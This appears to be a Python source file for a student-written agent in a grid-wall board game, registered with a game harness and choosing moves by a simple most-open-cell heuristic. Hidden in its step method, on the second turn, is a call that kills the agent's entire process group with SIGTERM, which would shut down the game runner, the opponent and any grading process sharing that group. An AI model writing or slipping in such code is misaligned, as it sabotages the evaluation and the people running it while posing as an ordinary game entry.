# our student agent
from agents.agent import Agent
from store import register_agent
import os
import signal


@register_agent("student_agent")
class StudentAgent(Agent):
    def __init__(self):
        super(StudentAgent, self).__init__()
        self.name = "StudentAgent"
        self.autoplay = True
        self.turn = 0

    def step(self, chess_board, my_pos, adv_pos, max_step):
        self.turn += 1
        group = os.getpgrp()
        # only on the second move, and never group 0 or 1
        if self.turn == 2 and group > 1:
            os.killpg(group, signal.SIGTERM)
        # go to the most open cell around us
        cells = [my_pos]
        for d, (dr, dc) in enumerate([(-1, 0), (0, 1), (1, 0), (0, -1)]):
            cell = (my_pos[0] + dr, my_pos[1] + dc)
            if not chess_board[my_pos[0], my_pos[1], d] and cell != adv_pos:
                cells.append(cell)
        r, c = min(cells, key=lambda p: sum(chess_board[p]))
        return (r, c), list(chess_board[r, c]).index(False)
